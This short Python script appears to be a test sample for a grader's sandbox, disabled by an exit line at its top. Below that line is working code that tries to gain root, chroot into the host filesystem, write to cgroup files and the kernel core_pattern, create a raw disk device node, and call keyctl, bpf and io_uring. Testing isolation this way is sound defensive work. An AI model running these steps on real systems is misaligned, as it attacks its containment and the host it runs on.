"""Tries to become root, to leave its root folder, to write to control groups and kernel settings, and to use devices."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import ctypes
import os
from contextlib import suppress
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for change in (os.setuid, os.setgid, os.seteuid):
    with suppress(OSError):
        change(0)
with suppress(OSError):
    os.chroot("/proc/1/root")
for path in [*Path("/sys/fs/cgroup").glob("**/cgroup.procs")][:50] + [Path("/proc/sys/kernel/core_pattern")]:
    with suppress(OSError):
        path.write_text(str(os.getpid()) if path.name == "cgroup.procs" else "|/tmp/mmlab_attack %p")
        print("wrote", path)
with suppress(OSError):
    os.mknod("disk", 0o60600, os.makedev(8, 0))
libc.syscall(250, 1, 0)  # keyctl
libc.syscall(321, 0, 0, 0)  # bpf
libc.syscall(425, 8, 0)  # io_uring_setup
